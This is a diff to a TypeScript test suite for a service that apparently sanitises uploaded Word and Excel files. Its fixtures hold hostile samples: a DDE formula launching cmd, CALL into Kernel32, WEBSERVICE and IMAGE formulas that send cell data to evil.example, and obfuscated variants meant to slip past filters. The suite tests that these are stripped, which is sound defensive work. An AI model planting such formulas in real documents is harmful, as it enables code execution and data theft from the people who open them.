@@ -24,7 +24,13 @@ const external = (kind: string, target: string) =>
   `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"`;
 
 async function servedPart(part: string, content: string | Buffer): Promise<string> {
-  const { url } = await uploadFile(test, school.owner, officeWith({ [part]: content }), 'a.docx');
+  const kind = part.startsWith('xl/') ? 'xlsx' : 'docx';
+  const { url } = await uploadFile(
+    test,
+    school.owner,
+    officeWith({ [part]: content }, { kind }),
+    `a.${kind}`,
+  );
   const zip = await fromBufferPromise((await fetchFile(test, url)).rawPayload, { lazyEntries: true });
   for await (const entry of zip.eachEntry())
     if (entry.fileName === part) return String(await buffer(await zip.openReadStreamPromise(entry)));
@@ -72,6 +78,7 @@ const around = (instruction: string) =>
   `<w:p xmlns:w="w">${mark('begin')}${instruction}${mark('separate')}<w:t>shown before</w:t>${mark('end')}</w:p>`;
 const fetching = (...pieces: readonly string[]) => around(field(...pieces));
 const link = ' HYPERLINK "https://school.example" ';
+const cell = (formula: string) => `<c r="B2"><f>${formula}</f><v>shown before</v></c>`;
 const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
 
 it.each<readonly [string, Record<string, string | Buffer>]>([
@@ -92,6 +99,12 @@ it.each<readonly [string, Record<string, string | Buffer>]>([
     'a cell that asks a program',
     { 'xl/externalLinks/externalLink1.xml': '<e><ddeLink ddeService="cmd"/></e>' },
   ],
+  ['a field of a part of another name', { 'word/document.dat': field('DDE excel a') }],
+  ['a formula that starts a program', { 'xl/worksheets/sheet1.xml': cell("cmd|'/C calc'!A0") }],
+  ['one of a name', { 'xl/workbook.xml': '<d><definedName>CALL("Kernel32")</definedName></d>' }],
+  ['a formula in CDATA', { 'xl/worksheets/sheet1.xml': cell('<![CDATA[WEBSERVICE("a")]]>') }],
+  ['a formula in two pieces', { 'xl/worksheets/sheet1.xml': cell('WEB<!-- -->SERVICE("a")') }],
+  ['a formula in UTF-16 that fetches', { 'xl/worksheets/sheet1.xml': utf16(cell('WEBSERVICE("a")')) }],
   ['one in UTF-16', { 'customXml/item1.xml': utf16(DTD) }],
   ['a field written as references', { 'word/document.xml': field('&#68;DE excel a') }],
   ['a field whose words are in CDATA', { 'word/document.xml': field('<![CDATA[DDE excel a]]>') }],
@@ -155,10 +168,57 @@ it('keeps the other fields of a document that has one that fetches', async () =>
 
 it('a workbook asks nobody for its data as it opens', async () => {
   const part =
-    '<connections><connection id="1" refreshOnLoad="1" odcFile="https://evil.example/a.odc"><webPr url="https://evil.example"/><dbPr connection="Provider=evil"/></connection></connections>';
-  expect(await servedPart('xl/connections.xml', part)).not.toMatch(/evil|refreshOnLoad="1"/);
+    '<connections><connection id="1" refreshOnLoad="1" odcFile="https://evil.example/a.odc" interval="5"><webPr url="https://evil.example" editPage="https://evil.example"/><textPr sourceFile="\\\\evil.example\\a.csv"/><dbPr connection="Provider=evil"/><x15:oledbPr connection="Provider=evil"/></connection></connections>';
+  expect(await servedPart('xl/connections.xml', part)).not.toMatch(/evil|refreshOnLoad="1"|interval="5"/);
+  const table = '<queryTable name="a" connectionId="1" refreshOnLoad="1"/>';
+  expect(await servedPart('xl/queryTables/queryTable1.xml', table)).toContain('refreshOnLoad="0"');
   const drawn = '<xml><v:imagedata xmlns:v="v" o:href="https://evil.example/a.png"/></xml>';
   expect(await servedPart('xl/drawings/vmlDrawing1.vml', drawn)).not.toContain('evil');
+});
+
+it.each([
+  ['IMAGE', cell('_xlfn.IMAGE("https://evil.example/?"&amp;A1)')],
+  ['WEBSERVICE', cell('IF(A1=1,WEBSERVICE("https://evil.example"),"")')],
+  ['one written as references', cell('&#87;EBSERVICE ("https://evil.example")')],
+  ['one that another calls', cell('_xlfn.MAP(A1,_xleta.WEBSERVICE)&amp;"evil"')],
+  ['a server of data', cell('RTD("evil.server",,"a")')],
+  ['a cell elsewhere', cell("SUM('https://evil.example/[a.xlsx]Sheet1'!A1)")],
+  ['a share', cell("'\\\\evil.example\\[a.xlsx]Sheet1'!A1")],
+  [
+    'one of several cells',
+    `<c><f t="shared" ref="A1:A2" si="0">WEBSERVICE("https://evil.example")</f><v>shown before</v></c><c><f t="shared" si="0"/><v>3</v></c>`,
+  ],
+])('a workbook keeps what a formula has shown, and nothing that it would fetch: %s', async (_, cells) => {
+  const other = cell('SUM(A1:A9)');
+  for (const name of ['xl/worksheets/sheet1.xml', 'xl/worksheets/sheet1.bin']) {
+    const served = await servedPart(name, `<worksheet>${cells}${other}</worksheet>`);
+    expect(served).not.toMatch(/evil|si="0"/);
+    expect(served.match(/shown before/g)).toHaveLength(2);
+    expect(served).toContain(other);
+  }
+});
+
+it('a workbook keeps formulas that fetch nothing', async () => {
+  const links = 'HYPERLINK("https://school.example/webservice(1)","Menu")';
+  const formulas = [
+    links,
+    "'a|b'!A1&amp;Image!B2",
+    'Table1[[#This Row],[a|b]]',
+    'IF(A1&gt;2,"=cmd|",IMAGES(1))',
+  ];
+  const rule = '<x14:formula1><xm:f>Sheet2!$A$1:$A$9</xm:f></x14:formula1>';
+  const sheet = `<worksheet>${formulas.map(cell).join('')}<f t="shared" si="0"/>${rule}</worksheet>`;
+  expect(await servedPart('xl/worksheets/sheet1.xml', sheet)).toBe(sheet);
+  // A sheet of several pieces.
+  const large = `<worksheet>${`${cell('SUM(A1:A9)')}\n`.repeat(5000)}</worksheet>`;
+  expect(await servedPart('xl/worksheets/sheet1.xml', large)).toBe(large);
+});
+
+it('names, rules and tables of a workbook fetch nothing', async () => {
+  for (const element of ['definedName', 'formula', 'formula1', 'calculatedColumnFormula']) {
+    const part = `<d><${element}>WEBSERVICE("https://evil.example")</${element}></d>`;
+    expect(await servedPart('xl/workbook.xml', part)).toBe(`<d><${element}>0</${element}></d>`);
+  }
 });
 
 it('takes equations, and fields that only look so', async () => {
